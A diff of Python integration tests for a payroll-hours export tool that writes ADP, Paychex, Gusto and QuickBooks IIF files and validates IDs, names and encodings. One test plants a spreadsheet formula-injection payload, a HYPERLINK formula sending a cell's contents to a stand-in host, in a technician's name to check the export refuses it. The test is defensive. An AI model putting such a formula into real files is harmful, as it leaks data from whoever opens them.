@@ -16,7 +16,8 @@ from hub.export.context import ExportError
 from hub.export.formats import FORMATS
 from hub.export.period_hours import PayCode
 from hub.services.period_export import export_period
-from hub.store.models import PayrollExport, PayrollExportTechnician
+from hub.settings import IifExport
+from hub.store.models import PayrollExport, PayrollExportTechnician, PayrollIdentity, Technician, WorkOrder
 from tests.integration.export.company import (
     WEEKS,
     approve_all_but_chen,
@@ -26,6 +27,7 @@ from tests.integration.export.company import (
     settings,
 )
 from tests.unit.export import scenario
+from tests.unit.export.readers import csv_rows
 
 GOLDEN = Path(__file__).parents[2] / "data" / "export"
 EXPORTED_AT = datetime(2026, 3, 16, 18, tzinfo=scenario.CHICAGO)
@@ -95,10 +97,18 @@ def test_a_preview_includes_everyone_and_says_preview(session, migrated_url, tmp
     assert result.exported == 4 and result.left_out == []
     summary = result.files[0].path
     assert summary.name == "depotclock-hours-2026-03-02_2026-03-15-PREVIEW.csv"
-    lines = summary.read_text().splitlines()
-    assert lines[1].split(",")[2] == "PREVIEW"
-    assert any(line.split(",")[2] == "T-400" for line in lines)
+    rows = csv_rows(summary.read_bytes(), "utf-8-sig")
+    assert {r["preview"] for r in rows} == {"PREVIEW"}
+    assert {r["name"] for r in rows if r["technician_id"] == "T-400"} == {"'-Chen Wu"}  # neutralised
     assert session.get(PayrollExport, result.export_id).preview
+
+
+@pytest.mark.parametrize("format_name", ["adp", "paychex", "iif", "gusto"])
+def test_a_preview_of_a_payroll_systems_format_is_refused(session, migrated_url, tmp_path, company, format_name):
+    """Issue 17 #3: previews were importable (IIF completely, ADP once renamed)."""
+    with pytest.raises(ExportError, match="a preview is written only as DepotClock CSV"):
+        _export(session, migrated_url, tmp_path, format_name, preview=True)
+    assert session.query(PayrollExport).count() == 0
 
 
 def test_reexport_after_a_correction_says_what_changed(session, migrated_url, tmp_path, company):
@@ -150,26 +160,94 @@ def test_missing_settings_and_unknown_users_are_clear_errors(session, migrated_u
     assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
 
 
-def test_a_technician_without_a_payroll_id_is_left_out_and_named(session, migrated_url, tmp_path, company):
-    from hub.store.models import Technician
-
+def test_a_technician_without_a_payroll_id_is_left_out_of_the_generic_file_and_named(
+        session, migrated_url, tmp_path, company):
     session.get(Technician, "T-300").payroll_id = None
     session.commit()
-    result = _export(session, migrated_url, tmp_path, "adp")
+    result = _export(session, migrated_url, tmp_path, "generic")
     assert [(left.technician_id, left.reason) for left in result.left_out] == [
         ("T-300", "no payroll id"), ("T-400", "not approved for every week of the period")]
-    assert b"000300" not in result.files[0].path.read_bytes()
-    iif = _export(session, migrated_url, tmp_path, "iif")  # QuickBooks goes by name
-    assert [left.technician_id for left in iif.left_out] == ["T-400"]
 
 
-def test_paychex_refuses_a_worker_id_over_10_characters(session, migrated_url, tmp_path, company):
-    from hub.store.models import Technician
+def _refused(session, migrated_url, tmp_path, format_name, *expected):
+    with pytest.raises(ExportError) as refused:
+        _export(session, migrated_url, tmp_path, format_name)
+    for text in expected:
+        assert text in str(refused.value)
+    assert session.query(PayrollExport).count() == 0
+    assert not (tmp_path / "out").exists() or not list((tmp_path / "out").iterdir())
+    return str(refused.value)
 
-    session.get(Technician, "T-100").payroll_id = "00000000100"
+
+def _identity(session, tech: str, provider: str, **values):
+    row = session.get(PayrollIdentity, (tech, provider))
+    for name, value in values.items():
+        setattr(row, name, value)
     session.commit()
-    result = _export(session, migrated_url, tmp_path, "paychex")
-    assert "longer than Paychex's 10 characters" in result.left_out[0].reason
+
+
+def test_missing_and_malformed_identities_are_named_before_any_file_is_written(
+        session, migrated_url, tmp_path, company):
+    """Issue 17 #1, #4: the ADP file carried T-100 as File # and left out whoever had no id."""
+    session.delete(session.get(PayrollIdentity, ("T-300", "adp")))
+    _identity(session, "T-100", "adp", employee_id="T-100")
+    message = _refused(session, migrated_url, tmp_path, "adp", "no ADP Workforce Now paydata file written",
+                       "T-100 José Núñez Ruiz: ADP file number 'T-100' is not 1 to 6 digits",
+                       "T-300 Okafor: no ADP file number")
+    assert "T-200" not in message
+
+
+def test_paychex_refuses_a_worker_id_over_10_characters_or_not_alphanumeric(session, migrated_url, tmp_path, company):
+    """Issue 17 #5 (Paychex SPI): Worker ID letters and digits only, at most 10."""
+    _identity(session, "T-100", "paychex", employee_id="00000000100")
+    _identity(session, "T-200", "paychex", employee_id="T-200")
+    _refused(session, migrated_url, tmp_path, "paychex", "T-100 José Núñez Ruiz: Paychex worker id '00000000100'",
+             "T-200 Ana \"Annie\" O'Neil: Paychex worker id 'T-200' is not 1 to 10 letters and digits")
+
+
+def test_gusto_needs_its_own_id_and_both_names(session, migrated_url, tmp_path, company):
+    """Issue 17 #1: Gusto's id is its own; first_name and last_name are required, not split."""
+    session.delete(session.get(PayrollIdentity, ("T-100", "gusto")))
+    session.get(Technician, "T-300").given_name = ""
+    session.commit()
+    _refused(session, migrated_url, tmp_path, "gusto", "T-100 José Núñez Ruiz: no Gusto employee id",
+             "T-300 Okafor: no given name (Gusto needs first_name and last_name)")
+
+
+def test_existing_formula_names_are_refused_in_import_files(session, migrated_url, tmp_path, company):
+    """Issue 17 #7: a name entered before the rule (or behind its back) is not exported."""
+    session.get(Technician, "T-200").family_name = '=HYPERLINK("http://x"&A1,"Click")'
+    session.commit()
+    _refused(session, migrated_url, tmp_path, "gusto", "T-200", "family name", "runs as a formula")
+    _identity(session, "T-100", "iif", employee_name="@Lopez, Maria")
+    _refused(session, migrated_url, tmp_path, "iif", "T-100 José Núñez Ruiz: QuickBooks employee name '@Lopez")
+
+
+def test_iif_names_missing_jobs_and_names_windows_1252_cannot_hold(session, migrated_url, tmp_path, company):
+    """Issue 17 #2: JOB must exist in Customers & Jobs; QuickBooks Desktop reads Windows-1252."""
+    session.get(WorkOrder, "WO-12").quickbooks_job = None
+    session.commit()
+    _identity(session, "T-200", "iif", employee_name="Nguyễn, Ana")
+    _refused(session, migrated_url, tmp_path, "iif", "work order WO-12 (+Harbor Foods, Inc.): no QuickBooks job",
+             "T-200 Ana \"Annie\" O'Neil: QuickBooks employee name 'Nguyễn, Ana' holds 'ễ', which QuickBooks Desktop's Windows-1252")
+
+
+def test_iif_refuses_the_default_company(session, migrated_url, tmp_path, company):
+    bare = settings(migrated_url).model_copy(update={"export": scenario.SETTINGS.model_copy(
+        update={"iif": IifExport()})})
+    with pytest.raises(ExportError, match="company_name and company_create_time"):
+        export_period(session, bare, WEDNESDAY, "iif", out_dir=tmp_path)
+
+
+def test_adp_batch_ids_differ_per_export_and_a_download_repeats_its_own(session, migrated_url, tmp_path, company):
+    """Issue 17 #4 (Odoo: a unique value per import): the Batch ID was DEPOTCLOCK every period."""
+    first = _export(session, migrated_url, tmp_path, "adp")
+    first_bytes = first.files[0].path.read_bytes()
+    second = _export(session, migrated_url, tmp_path, "adp", now=EXPORTED_AT + timedelta(hours=1))
+    batches = [{r["Batch ID"] for r in csv_rows(data)} for data in (first_bytes, second.files[0].path.read_bytes())]
+    assert batches == [{f"MAR{first.export_id}"}, {f"MAR{second.export_id}"}]
+    (again,) = download(session, first.export_id, tmp_path / "again")
+    assert again.read_bytes() == first_bytes
 
 
 def test_worker_processes_write_the_same_bytes(session, migrated_url, tmp_path, company):
@@ -179,10 +257,14 @@ def test_worker_processes_write_the_same_bytes(session, migrated_url, tmp_path, 
         assert file.path.read_bytes() == (GOLDEN / "generic" / file.path.name).read_bytes()
 
 
-def test_gusto_names_the_premium_hours_it_has_no_column_for(session, migrated_url, tmp_path, company):
+def test_gusto_carries_premium_hours_and_names_the_mileage_it_has_no_line_for(
+        session, migrated_url, tmp_path, company):
+    """Issue 17 #6: premium hours were dropped with a note, and Gusto overwrites hand entries."""
     result = _export(session, migrated_url, tmp_path, "gusto")
+    ana = next(r for r in csv_rows(result.files[0].path.read_bytes()) if r["gusto_employee_id"] == "d4e5f6")
+    assert ana["missed_break_hours"] == "1.00"
     (note,) = result.notes
-    assert "no column for premium pay" in note and "T-200 (1.00 h)" in note
+    assert "no line for mileage reimbursement" in note and "T-200 (95.7 mi, 66.99)" in note
 
 
 def test_holiday_hours_are_exported_under_their_codes_and_a_removed_holiday_shows_as_a_change(
